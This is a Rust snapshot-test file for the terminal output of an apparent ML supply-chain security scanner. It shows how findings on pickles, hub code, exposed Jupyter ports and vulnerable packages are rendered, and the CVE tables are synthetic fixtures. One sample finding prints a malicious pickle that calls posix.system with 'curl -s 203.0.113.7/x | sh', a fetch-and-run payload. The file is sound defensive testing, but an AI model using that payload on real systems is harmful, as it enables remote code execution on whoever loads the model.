//! What people see, kind by kind, at 80 columns.

use super::*;
use crate::samples;
use insta::assert_snapshot;
use wellhead_core::{ArtifactPath, Coverage, Depth, Level, Outcome, Severity, Status};

fn shown(report: &Report) -> String {
    render(report, samples::RULES, &TerminalOptions::default())
}

/// The findings without what stands below them.
fn blocks(findings: Vec<Finding>) -> String {
    let all = shown(&samples::report(findings));
    all.split(" ML06:2023 measure").next().unwrap().to_owned()
}

/// What stands below the findings.
fn footer(report: &Report) -> String {
    let all = shown(report);
    format!(
        " ML06:2023 measure{}",
        all.split(" ML06:2023 measure").nth(1).unwrap()
    )
}

#[test]
fn a_pickle_shows_its_opcodes() {
    assert_snapshot!(blocks(vec![samples::pickle()]), @r"
error[unsafe-pickle-import]: loading this model runs `posix.system`
   ╭▸ models/resnet.pt!/archive/data.pkl:16:7
   │
10 │ 0x20  GLOBAL      'posix system'
   │                   ────────────── imported here
11 │ 0x2e  BINPUT      3
12 │ 0x30  BINUNICODE  'curl -s 203.0.113.7/x | sh'
   │                   ──────────────────────────── with this argument
   ┆
16 │ 0x54  REDUCE
   │       ━━━━━━ called as soon as `torch.load` reads the file
   │
   ├ note: critical · confidence high · ML06:2023 integrity · CWE-502
   ╰ help: re-export the weights as safetensors
");
}

#[test]
fn python_shows_its_lines_and_the_fix() {
    assert_snapshot!(blocks(vec![samples::python()]), @r#"
warning[trust-remote-code]: a hub repository may run its own Python code
  ╭▸ src/train.py:3:5
  │
2 │     "acme/bert-tiny",
  │     ──────────────── no `revision=`: follows the branch `main`
3 │     trust_remote_code=True,
  │     ━━━━━━━━━━━━━━━━━━━━━━ executes `modeling_*.py` from the hub
  │
  ├ note: medium · confidence high · ML06:2023 use trusted sources · CWE-829
  ╰ help: pin the commit: `revision="6f75de8b…"` (fix available, safe)
"#);
}

#[test]
fn a_configuration_is_pointed_at() {
    assert_snapshot!(blocks(vec![samples::config()]), @r#"
warning[unused-ignore]: this ignore matched nothing
  ╭▸ wellhead.toml:3:8
  │
3 │ path = "old/train.py"
  │        ━━━━━━━━━━━━━━ no finding of this rule here
4 │ reason = "pinned by the deploy job"
  │          ────────────────────────── reason
  │
  ├ note: low · confidence high · ML06:2023 use trusted sources
  ╰ help: remove the entry
"#);
}

#[test]
fn a_service_shows_its_answer_and_long_labels_wrap() {
    assert_snapshot!(blocks(vec![samples::service()]), @r#"
error[open-dashboard]: anybody who reaches `http://10.0.0.5:8888` runs code in
                       this Jupyter
  ╭▸ captures/jupyter.json (answer to GET /api/kernels)
  │
1 │ GET /api/kernels HTTP/1.1
2 │ HTTP/1.1 200 OK
  │          ━━━━━━ answered without any credentials, so that whoever reaches
  │                 the port can start kernels
3 │ server: TornadoServer/6.4
  │         ─────────────────
  ┆
6 │ [{"id": "5b0c", "execution_state": "idle"}]
  ⸬  docker-compose.yml: publishes the port
  │
  ├ note: JupyterHub 4.1.5; the port is published by `docker-compose.yml`
  ├ note: high · confidence high · ML06:2023 lock down infrastructure · CWE-306
  ╰ help: set a token: `--IdentityProvider.token=…`, and bind the port to
          127.0.0.1
"#);
}

#[test]
fn packages_are_a_table_with_the_version_that_clears_all() {
    assert_snapshot!(blocks(samples::packages()), @r#"
error[vulnerable-package]: 3 packages have 5 known vulnerabilities
  uv.lock
    package     version  worst     advisories           fixed in  needed by
    torch       2.5.1    critical  CVE-2025-32434 +2    2.8.0     train-kit ← a…
    pillow      10.1     high      GHSA-3f63-hfp8-52jq  10.2      direct
    漢字-tools  1.0      low       PYSEC-2026-1         no fix
  note: confidence high · ML06:2023 keep dependencies updated · CWE-1395
  help: upgrade to the versions under "fixed in"; `-v` lists all 5
"#);
}

#[test]
fn files_that_say_the_same_share_a_table() {
    let elsewhere = |path: &str| {
        let artifact = wellhead_core::ArtifactPath::file(path);
        let moved = |mut finding: Finding| {
            finding
                .locations
                .iter_mut()
                .for_each(|l| l.artifact = artifact.clone());
            finding.properties.remove("via");
            finding.properties.remove("direct");
            finding
        };
        samples::packages().into_iter().map(moved).collect::<Vec<_>>()
    };
    let exports = ["pylock.toml", "requirements.txt"].map(elsewhere);
    let other = elsewhere("other/requirements.txt").into_iter().take(3);
    let all = exports
        .into_iter()
        .flatten()
        .chain(samples::packages())
        .chain(other);
    assert_snapshot!(blocks(all.collect()), @r#"
    error[vulnerable-package]: 3 packages have 5 known vulnerabilities
      uv.lock
      and the same in pylock.toml, requirements.txt
        package     version  worst     advisories           fixed in  needed by
        torch       2.5.1    critical  CVE-2025-32434 +2    2.8.0     train-kit ← a…
        pillow      10.1     high      GHSA-3f63-hfp8-52jq  10.2      direct
        漢字-tools  1.0      low       PYSEC-2026-1         no fix
      note: confidence high · ML06:2023 keep dependencies updated · CWE-1395
      help: upgrade to the versions under "fixed in"; `-v` lists all 5

    error[vulnerable-package]: 1 package has 3 known vulnerabilities
      other/requirements.txt
        package  version  worst     advisories         fixed in  needed by
        torch    2.5.1    critical  CVE-2025-32434 +2  2.8.0
      note: confidence high · ML06:2023 keep dependencies updated · CWE-1395
      help: upgrade to the versions under "fixed in"; `-v` lists all 3
    "#);
}

#[test]
fn one_package_finding_is_a_snippet() {
    let torch = samples::packages().swap_remove(0);
    assert_snapshot!(blocks(vec![torch]), @r#"
error[vulnerable-package]: `torch` `2.5.1` is affected by `PYSEC-2025-41`
  ╭▸ uv.lock:2:1
  │
2 │ name = "torch"
  │ ━━━━━━━━━━━━━━ declared here
  │
  ╰ note: critical · confidence high · ML06:2023 updates · CWE-1395
"#);
}

#[test]
fn a_planted_release_is_never_a_row() {
    let planted = || samples::packages().swap_remove(0).property("malicious", true);
    let shown = blocks(vec![planted(), planted()]);
    assert_eq!(shown.matches("╭▸ uv.lock").count(), 2, "{shown}");
}

#[test]
fn a_large_lock_can_be_read() {
    assert_snapshot!(shown(&samples::large_lock()), @r#"
error[vulnerable-package]: 25 packages have 259 known vulnerabilities
  uv.lock
    package                 version  worst     advisories          fixed in
    aiohttp                 2.0.1    critical  CVE-2025-10000 +18  3.9.0
    certifi                 2.0.1    critical  CVE-2025-12104 +9   3.4.21
    cryptography            2.0.1    critical  CVE-2025-11302 +9   3.4.13
    gradio                  2.0.1    critical  CVE-2025-10500 +9   3.4.5
    h11                     2.0.1    critical  CVE-2025-12401 +9   3.4.24*
    idna                    2.0.1    critical  CVE-2025-12203 +9   3.4.22
    jinja2                  2.0.1    critical  CVE-2025-11104 +9   3.4.11
    jupyter-server          2.0.1    critical  CVE-2025-10703 +9   3.4.7
    keras                   2.0.1    critical  CVE-2025-11604 +9   3.4.16
    langchain-community     2.0.1    critical  CVE-2025-11802 +9   3.4.18
    mlflow                  2.0.1    critical  CVE-2025-10401 +9   3.4.4
    numpy                   2.0.1    critical  CVE-2025-11901 +9   3.4.19
    onnx                    2.0.1    critical  CVE-2025-11500 +9   3.4.15
    opencv-python-headless  2.0.1    critical  CVE-2025-12302 +9   3.4.23
    pillow                  2.0.1    critical  CVE-2025-10302 +9   3.4.3*
    protobuf                2.0.1    critical  CVE-2025-11401 +9   3.4.14
    ray                     2.0.1    critical  CVE-2025-10604 +9   3.4.6
    requests                2.0.1    critical  CVE-2025-11000 +9   3.4.10*
    scikit-learn            2.0.1    critical  CVE-2025-11703 +9   3.4.17*
    setuptools              2.0.1    critical  CVE-2025-12000 +9   3.4.20
    torch                   2.0.1    critical  CVE-2025-10104 +9   3.4.1
    tornado                 2.0.1    critical  CVE-2025-10802 +9   3.4.8
    transformers            2.0.1    critical  CVE-2025-10203 +9   3.4.2
    urllib3                 2.0.1    critical  CVE-2025-10901 +9   3.4.9
    werkzeug                2.0.1    critical  CVE-2025-11203 +9   3.4.12
  note: confidence high · ML06:2023 keep dependencies updated · CWE-1395
  note: * no release fixes all of them
  help: upgrade to the versions under "fixed in"; `-v` lists all 259

 ML06:2023 measure            deny  warn     ok  risk
   verify package integrity      0     0     12  none (0)
   keep dependencies updated   104   155     12  critical (100)
   use trusted sources           –     –      –  not assessed
   lock down infrastructure      –     –      –  not assessed

Advisories: no database was asked
Verdict: blocked (fail-on high) · risk critical, 100 of 100
Found 104 errors, 104 warnings, 51 notes in 214 files, 3 models, 148 packages
Everything was analysed
"#);
}

#[test]
fn verbose_lists_every_advisory() {
    let options = TerminalOptions {
        verbosity: Verbosity::Verbose,
        ..TerminalOptions::default()
    };
    let shown = render(&samples::large_lock(), samples::RULES, &options);
    assert_eq!(shown.matches("CVE-2025-").count(), 259 + 25);
    assert_snapshot!(shown.lines().take(8).collect::<Vec<_>>().join("\n"), @r"
error[vulnerable-package]: 25 packages have 259 known vulnerabilities
  uv.lock
    package                 version  worst     advisories          fixed in
    aiohttp                 2.0.1    critical  CVE-2025-10000 +18  3.9.0
      CVE-2025-10000  critical  3.0.0       Something in it can be made to do w…
      CVE-2025-10005  critical  3.2.0       Something in it can be made to do w…
      CVE-2025-10010  critical  3.5.0       Something in it can be made to do w…
      CVE-2025-10015  critical  3.7.0       Something in it can be made to do w…
");
}

#[test]
fn the_last_lines_say_what_was_not_looked_at() {
    assert_snapshot!(footer(&samples::everything()), @"
     ML06:2023 measure            deny  warn     ok  risk
       verify package integrity      1     0     12  critical (90)
       keep dependencies updated     2     3     12  critical (93)
       use trusted sources           0     2     12  medium (45)
       lock down infrastructure      1     0     12  high (72)

    Not assessed: metadata of the hub: the run was offline
    Inventory: 1 package: 1 audited
    Advisories: osv of 2026-11-03 (31,204 records)
    Verdict: blocked (fail-on high) · risk critical, 97 of 100
    Found 4 errors, 5 warnings in 214 files, 3 models, 148 packages
          (1 ignored, 1 suppressed, 1 fixable)
    Not analysed: 1 artifact (weights.7z: encrypted); partly analysed: 1 artifact
      (models/resnet.pt: expands to more than 8 GB)
    ");
}

#[test]
fn nothing_found() {
    assert_snapshot!(shown(&samples::report(Vec::new())), @r"
 ML06:2023 measure            deny  warn     ok  risk
   verify package integrity      0     0     12  none (0)
   keep dependencies updated     –     –      –  not assessed
   use trusted sources           –     –      –  not assessed
   lock down infrastructure      –     –      –  not assessed

Advisories: no database was asked
Verdict: passed (fail-on high) · risk none, 0 of 100
Found nothing in 214 files, 3 models, 148 packages
Everything was analysed
");
}

#[test]
fn what_was_read_in_part_by_design_is_said() {
    let mut report = samples::report(Vec::new());
    report.coverage[0].depth = Depth::Headers;
    let shown = shown(&report);
    assert_snapshot!(shown.lines().last().unwrap(), @"Everything was analysed, 1 artifact by headers and code (`--full` reads all)");
}

#[test]
fn nothing_analysed() {
    let mut report = samples::report(Vec::new());
    report.coverage.clear();
    report.stats = wellhead_core::Stats::default();
    report.measures.clear();
    report.risk = wellhead_core::RiskReport::default();
    assert_snapshot!(shown(&report), @r"
 ML06:2023 measure            deny  warn     ok  risk
   verify package integrity      –     –      –  not assessed
   keep dependencies updated     –     –      –  not assessed
   use trusted sources           –     –      –  not assessed
   lock down infrastructure      –     –      –  not assessed

Verdict: none, nothing was judged (fail-on high) · risk not assessed
Found nothing in 0 files
Nothing was analysed: there was no input
");
}

#[test]
fn many_artifacts_that_were_not_analysed_are_counted_by_reason() {
    let mut report = samples::report(Vec::new());
    for i in 0..12 {
        let why = if i % 3 == 0 {
            "no permission to read it"
        } else {
            "encrypted"
        }
        .to_owned();
        report.coverage.push(Coverage {
            artifact: ArtifactPath::file(format!("weights/{i}.7z")),
            outcome: if i > 9 {
                Outcome::Partly { why }
            } else {
                Outcome::NotAnalysed { why }
            },
            depth: Depth::Headers,
            format: None,
        });
    }
    let shown = shown(&report);
    assert_snapshot!(shown.split("Found").nth(1).unwrap(), @r"
 nothing in 214 files, 3 models, 148 packages
Not analysed: 10 artifacts (6 encrypted, 4 no permission to read it); partly
  analysed: 2 artifacts (weights/10.7z: encrypted, weights/11.7z: encrypted). Run
  with `-v` to list
");
}

#[test]
fn what_repeats_itself_is_folded_with_its_places() {
    let many = |n: usize| {
        let findings = (0..n).map(|i| {
            let mut f = samples::pickle();
            f.locations[0].artifact =
                ArtifactPath::file(format!("models/epoch-{i:04}.pt")).member("data.pkl");
            f
        });
        blocks(findings.collect())
    };
    let shown = many(25);
    assert_eq!(shown.matches("╭▸").count(), 3);
    assert_snapshot!(shown.rsplit("\n\n").nth(1).unwrap(), @r"
error[unsafe-pickle-import]: 22 more like these
  models/epoch-0003.pt!/data.pkl@0x54: loading this model runs `posix.system`
  models/epoch-0004.pt!/data.pkl@0x54: loading this model runs `posix.system`
  models/epoch-0005.pt!/data.pkl@0x54: loading this model runs `posix.system`
  models/epoch-0006.pt!/data.pkl@0x54: loading this model runs `posix.system`
  models/epoch-0007.pt!/data.pkl@0x54: loading this model runs `posix.system`
  models/epoch-0008.pt!/data.pkl@0x54: loading this model runs `posix.system`
  models/epoch-0009.pt!/data.pkl@0x54: loading this model runs `posix.system`
  models/epoch-0010.pt!/data.pkl@0x54: loading this model runs `posix.system`
  models/epoch-0011.pt!/data.pkl@0x54: loading this model runs `posix.system`
  models/epoch-0012.pt!/data.pkl@0x54: loading this model runs `posix.system`
  (and 12 more; `-v` shows all)
");
    assert_eq!(many(3).matches("more").count(), 0);
}

#[test]
fn the_policy_makes_errors_and_warnings() {
    let cases = [
        (Some(Level::Deny), Severity::Low, "error["),
        (Some(Level::Warn), Severity::Critical, "warning["),
        (None, Severity::High, "error["),
        (None, Severity::Medium, "warning["),
        (None, Severity::Info, "note["),
    ];
    for (level, severity, head) in cases {
        let mut f = samples::pickle().severity(severity);
        f.level = level;
        assert!(blocks(vec![f]).starts_with(head), "{level:?} {severity}");
    }
}

#[test]
fn what_is_ignored_is_listed_when_asked() {
    let options = TerminalOptions {
        verbosity: Verbosity::Verbose,
        ..TerminalOptions::default()
    };
    let mut report = samples::everything();
    report.findings.retain(|f| f.status != Status::Reported);
    let shown = render(&report, samples::RULES, &options);
    assert_snapshot!(shown.split("\n\n").next().unwrap(), @r"
ignored[unsafe-pickle-import]: legacy/a.pkl@0x54: loading this model runs `posix.system`
  reason: rebuilt at release from the checked-in JSON, until 2027-03-01, wellhead.toml:2:1
suppressed[trust-remote-code]: src/train.py:3:5: a hub repository may run its own Python code
  reason: known from the baseline
");
    assert_snapshot!(shown.split("Found").nth(1).unwrap(), @r"
 nothing in 214 files, 3 models, 148 packages (1 ignored, 1 suppressed)
  models/resnet.pt: partly analysed: expands to more than 8 GB
  weights.7z: not analysed: encrypted
Not analysed: 1 artifact (weights.7z: encrypted); partly analysed: 1 artifact
  (models/resnet.pt: expands to more than 8 GB)
");
}

#[test]
fn quiet_is_a_line_per_finding_and_the_last_lines() {
    let options = TerminalOptions {
        verbosity: Verbosity::Quiet,
        ..TerminalOptions::default()
    };
    let report = samples::report(vec![samples::pickle(), samples::python(), samples::service()]);
    assert_snapshot!(render(&report, samples::RULES, &options), @r"
models/resnet.pt!/archive/data.pkl@0x54: error[unsafe-pickle-import] loading this model runs `posix.system`
src/train.py:3:5: warning[trust-remote-code] a hub repository may run its own Python code
captures/jupyter.json (answer to GET /api/kernels): error[open-dashboard] anybody who reaches `http://10.0.0.5:8888` runs code in this Jupyter
Found 2 errors, 1 warning in 214 files, 3 models, 148 packages (1 fixable)
Everything was analysed
");
}

#[test]
fn concise_has_a_line_for_what_was_not_seen() {
    let mut report = samples::everything();
    report.findings.truncate(2);
    assert_snapshot!(concise(&report), @r"
models/resnet.pt!/archive/data.pkl@0x54: error[unsafe-pickle-import] loading this model runs `posix.system`
captures/jupyter.json (answer to GET /api/kernels): error[open-dashboard] anybody who reaches `http://10.0.0.5:8888` runs code in this Jupyter
models/resnet.pt: note[partly] expands to more than 8 GB
weights.7z: note[not-analysed] encrypted
");
}

#[test]
fn ascii_is_ascii_and_colour_only_adds() {
    let mut ours = samples::everything();
    let options = TerminalOptions {
        unicode: false,
        width: 60,
        ..TerminalOptions::default()
    };
    ours.findings
        .retain(|f| !f.message.contains('漢') && !f.fixes.iter().any(|f| f.description.contains('…')));
    let plain = render(&ours, samples::RULES, &options);
    assert!(plain.is_ascii(), "{plain}");
    let coloured = render(
        &ours,
        samples::RULES,
        &TerminalOptions {
            colour: true,
            ..options
        },
    );
    let mut stripped = String::new();
    for (i, part) in coloured.split('\x1b').enumerate() {
        stripped.push_str(if i == 0 {
            part
        } else {
            part.split_once('m').unwrap().1
        });
    }
    assert_eq!(stripped, plain);
}

#[test]
fn lines_fit_and_nothing_steers_the_terminal() {
    for report in [samples::hostile(), samples::everything(), samples::large_lock()] {
        for verbosity in [Verbosity::Quiet, Verbosity::Normal, Verbosity::Verbose] {
            let options = TerminalOptions {
                verbosity,
                ..TerminalOptions::default()
            };
            let text = render(&report, samples::RULES, &options);
            let bad = text
                .chars()
                .find(|c| *c != '\n' && wellhead_core::escape(&c.to_string()) != c.to_string());
            assert_eq!(bad, None);
            // A line break in a name must not make a line of its own.
            assert!(
                !text.lines().any(|l| l.trim_start().starts_with("::error")),
                "{text}"
            );
        }
    }
    // Paths are never cut, so only what holds none is sure to fit.
    for line in shown(&samples::everything())
        .lines()
        .chain(shown(&samples::large_lock()).lines())
    {
        assert!(width(line) <= 80, "{line}");
    }
}

#[test]
fn a_rule_links_to_its_page_in_colour_only() {
    let docs = Some("https://docs.example/rules/".to_owned());
    let options = TerminalOptions {
        docs,
        ..TerminalOptions::default()
    };
    let report = samples::report(vec![samples::config()]);
    let link = "\x1b]8;;https://docs.example/rules/unused-ignore\x1b\\";
    assert!(!render(&report, samples::RULES, &options).contains("docs.example"));
    assert!(
        render(
            &report,
            samples::RULES,
            &TerminalOptions {
                colour: true,
                ..options
            }
        )
        .contains(link)
    );
}
